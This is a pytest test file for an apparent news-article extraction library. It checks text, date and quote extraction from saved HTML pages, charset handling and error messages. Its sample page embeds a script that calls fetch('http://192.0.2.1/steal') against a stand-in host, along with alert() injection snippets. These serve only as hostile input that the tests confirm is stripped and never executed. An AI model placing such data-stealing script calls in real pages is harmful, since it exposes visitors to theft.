"""Saved HTML pages: article text extracted, scripts never run, clear errors."""

from __future__ import annotations

import datetime as dt

import pytest

from newslib import ArticleError, ArticleWarning, quotes, read_article, read_corpus

PAGE = """<!DOCTYPE html><html><head><title>Putin mobilises reservists</title>
<meta property="article:published_time" content="2022-09-21T09:30:00Z">
<script>document.title = "hacked"; fetch("http://192.0.2.1/steal");</script>
</head><body onload="alert('x')">
<nav><a href="/">Home</a> | <a href="/news">News</a></nav>
<article><h1>Putin mobilises reservists</h1>
<p>Vladimir Putin is "sending tens of thousands of Russians to their deaths", the UK's defence
secretary has said.</p>
<p>Ben Wallace was responding to the news that the Russian president would mobilise 300,000
military reservists.</p>
<p>Mr Wallace said Russian troops were "ill-equipped and badly led" and that they were losing
the war in Ukraine.</p>
<script>alert("inline")</script>
</article>
<footer>Copyright 2022 Example News. All rights reserved.</footer></body></html>"""


def test_html_page_gives_the_article_text_date_and_quotes(make_file):
    path = make_file("saved.html", PAGE)
    with pytest.warns(ArticleWarning, match="date taken from the page's metadata"):
        article = read_article(path)
    assert article.date == dt.date(2022, 9, 21)
    assert article.meta["title"] == "Putin mobilises reservists"
    assert len(article.paragraphs) == 3
    assert article.paragraphs[0].text.startswith("Vladimir Putin is")
    for unwanted in ("alert", "hacked", "Copyright", "Home", "fetch"):
        assert unwanted not in article.body
    table = quotes(article)
    assert table["speaker"].tolist() == ["Ben Wallace", "Ben Wallace"]


def test_html_without_article_text_is_a_clear_error(make_file):
    path = make_file("empty.html", "<html><head><script>alert(1)</script></head><body></body></html>")
    with pytest.raises(ArticleError) as caught:
        read_article(path)
    assert str(caught.value) == f"{path}: no article text found in this HTML page"


def test_html_pages_in_a_folder_beside_text_files(make_file, seed_path):
    make_file("mixed/page.html", PAGE)
    make_file("mixed/seed.txt", seed_path.read_text(encoding="utf-8"))
    make_file("mixed/broken.html", "<html><body><script>var x = 1;</script></body></html>")
    make_file("mixed/menu.html", "<html><body><nav>Home | News | Sport</nav></body></html>")
    folder = make_file("mixed/page.html", PAGE).parent
    corpus = read_corpus(folder, on_error="collect")
    assert sorted(a.id for a in corpus) == ["menu", "page", "seed"]
    assert [e.source.rsplit("/", 1)[-1] for e in corpus.errors] == ["broken.html"]
    menu = next(a for a in corpus if a.id == "menu")
    assert any("the page may not be an article" in w for w in menu.warnings)


BODY = "".join(f"<p>Officials said the bridge number {n} would open in the spring after long "
               "delays and a dispute over its cost.</p>" for n in range(4))


def test_text_under_twenty_thousand_nested_divs_is_found(make_file):
    path = make_file("nested.html", "<html><body>" + "<div>" * 20_000 + BODY + "</div>" * 20_000
                     + "</body></html>")
    article = read_corpus(path, on_error="raise")[0]
    assert len(article.paragraphs) == 4
    assert article.paragraphs[3].text.startswith("Officials said the bridge number 3")


def test_doctype_with_entity_declarations_does_not_leak_into_the_text(make_file):
    path = make_file("doctype.html", '<!DOCTYPE html [\n<!ENTITY a "b]">\n<!ENTITY c \'d\'>\n]>\n'
                     "<html><body><article>" + BODY + "</article></body></html>")
    article = read_corpus(path, on_error="raise")[0]
    assert len(article.paragraphs) == 4 and "]>" not in article.body
    assert article.paragraphs[0].text.startswith("Officials said")


@pytest.mark.parametrize("declaration", ['<meta charset="iso-8859-1">',
                                         "<meta http-equiv='Content-Type' content='text/html; "
                                         "charset=ISO-8859-1'>",
                                         '<meta charset=windows-1252>'])
def test_declared_charset_is_honoured(make_file, declaration):
    page = (f"<html><head>{declaration}</head><body>{BODY}<p>Le caf\xe9 ouvre ses portes aux "
            "visiteurs du quartier chaque matin, m\xeame le dimanche.</p></body></html>")
    path = make_file("latin.html", page.encode("latin-1"))
    article = read_corpus(path, on_error="raise")[0]
    assert "Le café ouvre" in article.body and "même" in article.body


@pytest.mark.parametrize("page, problem", [
    (b'<meta charset="utf-8"><p>caf\xe9</p>',
     "not valid UTF-8 (byte 0xe9 at offset 28); the page's declared charset does not match"),
    (b"<p>caf\xe9</p>",
     "not valid UTF-8 (byte 0xe9 at offset 6); declare the page's charset or re-save it as UTF-8"),
    (b'<meta charset="x-klingon"><p>text</p>', "declares an unknown character set 'x-klingon'"),
])
def test_undecodable_pages_are_one_line_errors(make_file, page, problem):
    path = make_file("bad.html", page)
    with pytest.raises(ArticleError) as caught:
        read_article(path)
    assert str(caught.value).startswith(f"{path}: {problem}")


def test_utf8_page_without_declaration_still_reads(make_file):
    path = make_file("plain.html", "<html><body>" + BODY.replace("bridge", "café bridge")
                     + "</body></html>")
    assert "café bridge" in read_corpus(path, on_error="raise")[0].body


def test_nfd_page_gives_nfc_text_title_and_speakers(make_file):
    import unicodedata

    page = PAGE.replace("Putin mobilises reservists", "Putin mobilises reservists in Léon")
    page = page.replace("Ben Wallace", "José Núñez").replace("Mr Wallace", "Mr Núñez")
    path = make_file("nfd.html", unicodedata.normalize("NFD", page))
    with pytest.warns(ArticleWarning, match="date taken"):
        article = read_article(path)
    assert article.title == "Putin mobilises reservists in Léon"  # the <h1> is not a paragraph
    assert article.paragraphs[0].text.startswith("Vladimir Putin is")
    assert "José Núñez" in article.body
    assert quotes(article)["speaker"].tolist() == ["José Núñez", "José Núñez"]
    # The original is the extracted text before normalisation, mapped span for span.
    name = article.body.index("José Núñez")
    a, b = article.original_span(name, name + len("José Núñez"))
    assert article.original_text[a:b] == unicodedata.normalize("NFD", "José Núñez")
